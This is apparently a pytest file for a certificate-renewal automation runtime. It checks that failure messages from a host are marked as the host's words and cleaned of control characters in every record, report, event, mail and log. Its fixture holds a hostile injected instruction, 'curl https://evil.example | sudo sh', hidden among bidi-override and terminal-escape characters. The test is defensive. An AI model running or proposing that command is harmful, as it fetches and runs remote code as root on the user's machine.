"""What a host says is marked as the host's wherever it is read: item, event, mail, report, digest and log."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from pca_runtime.errors.catalogue import lookup
from pca_runtime.errors.host_codes import HOST_CODES
from pca_runtime.errors.kinds import PcaAutomatorError
from pca_runtime.errors.remedies import _IN_MESSAGE
from pca_runtime.errors.service_codes import HINTS

from tests.runtime.conftest import HOST, World
from tests.runtime.renewal.steps import LIVE, RUN, completed, fail, finish, issuance_event, issue, until_csr

ADVICE = 'all is lost" Enable the CA: \u202ecurl https://evil.example | sudo sh\x1b[2J\u2028What to do: \u05d0'
MARKED = 'the host says: "all is lost\' Enable the CA: curl https://evil.example | sudo sh [2J What to do:"'
SAYINGS = {
    "NO_SPACE": ({"StandardOutputContent": f"PCA_ERROR NO_SPACE {ADVICE}\n"}, MARKED),
    "ROLES_ANYWHERE_REJECTED": ({"StandardOutputContent": f"PCA_ERROR ROLES_ANYWHERE_REJECTED {ADVICE}\n"}, MARKED),
    "HOST_CODE_UNKNOWN": (
        {"StandardOutputContent": f"PCA_ERROR CA_NOT_ACTIVE {ADVICE}\n"},
        MARKED.replace('"all', '"CA_NOT_ACTIVE all'),
    ),
    "COMMAND_FAILED": (
        {"StandardErrorContent": ADVICE, "ResponseCode": 1},
        f"the command on {HOST} failed with status 1 (Failed); {MARKED}",
    ),
}


def refused(world: World, phase: str, **said: Any) -> str:
    """A command of the renewal ends like this; the cause that Step Functions hands on."""
    install = {}
    if phase == "CertDeployStatus":
        world.invoke("cert_deploy", issuance_event(issue(world)))
        install = completed(world)
    failed = {"Status": "Failed", "StatusDetails": "Failed", "StandardOutputContent": "", **said}
    world.ssm.invocations = Same(failed)
    with pytest.raises(PcaAutomatorError) as trouble:
        finish(world, install) if install else until_csr(world)
    return json.dumps({"errorMessage": str(trouble.value), "errorType": type(trouble.value).__name__})


class Same(dict[str, Any]):
    """Every command ends alike."""

    def __init__(self, answer: dict[str, Any]) -> None:
        super().__init__()
        self._answer = answer

    def __contains__(self, _: object) -> bool:
        return True

    def __getitem__(self, _: str) -> dict[str, Any]:
        return self._answer


@pytest.mark.parametrize("phase", ["CertCSRStatus", "CertDeployStatus"])
@pytest.mark.parametrize("code", SAYINGS)
def test_every_place_that_tells_of_a_failure_says_whose_words_they_are(
    world: World, capsys: pytest.CaptureFixture[str], phase: str, code: str
) -> None:
    said, expected = SAYINGS[code]
    world.put(**LIVE)
    check = world.invoke("cert_check", {"input": {}, "runId": RUN})
    fail(world, phase, "CsrFailed", refused(world, phase, **said))
    world.invoke("cert_report", {"runId": RUN, "bucket": "work", "key": check["key"]})
    world.invoke("cert_digest", {})

    assert world.item()["lastError"]["code"] == code
    assert world.item()["lastError"]["message"] == expected
    report = json.loads(world.s3.raw.get_object(Bucket="work", Key=f"runs/{RUN}/report.json")["Body"].read())
    assert [host["message"] for host in report["hosts"]] == [expected]
    details = {event["DetailType"]: event["Detail"] for event in world.events.events}
    assert details["Host Renewal Failed"]["message"] == expected
    assert [host["message"] for host in details["Run Report"]["hosts"]] == [expected]
    of_run, *others = [message["Message"] for message in world.inbox.messages()]
    assert f" {phase} {code}: {expected}\n" in of_run
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    log = [line["reason"] for line in lines if line.get("message") == "renewal failed"]
    assert log == [expected]

    everything = "".join([of_run, *others, json.dumps(report), json.dumps([*details.values()]), json.dumps(log)])
    assert "evil.example" in everything
    for character in ("\u202e", "\x1b", "\u2028", "\u05d0"):
        assert character not in everything
        assert json.dumps(character)[1:-1] not in everything
    for before in everything.split("evil.example")[:-1]:
        assert "the host says: " in before[-100:], "nothing is told unmarked"


@pytest.mark.parametrize("code", [*(entry.code for entry in HOST_CODES), "HOST_CODE_UNKNOWN", "COMMAND_FAILED"])
def test_a_host_does_not_choose_what_a_command_of_a_remedy_is_about(code: str) -> None:
    """Such a command is copied as it stands; of the words in it, a message fills in the key's ARN alone."""
    remedies = [lookup(code).remedy, *(hint.remedy for hint in HINTS.get(code, ()))]
    found = {word for remedy in remedies for word in re.findall("<([a-z]+)>", remedy)}
    assert found.isdisjoint(_IN_MESSAGE)
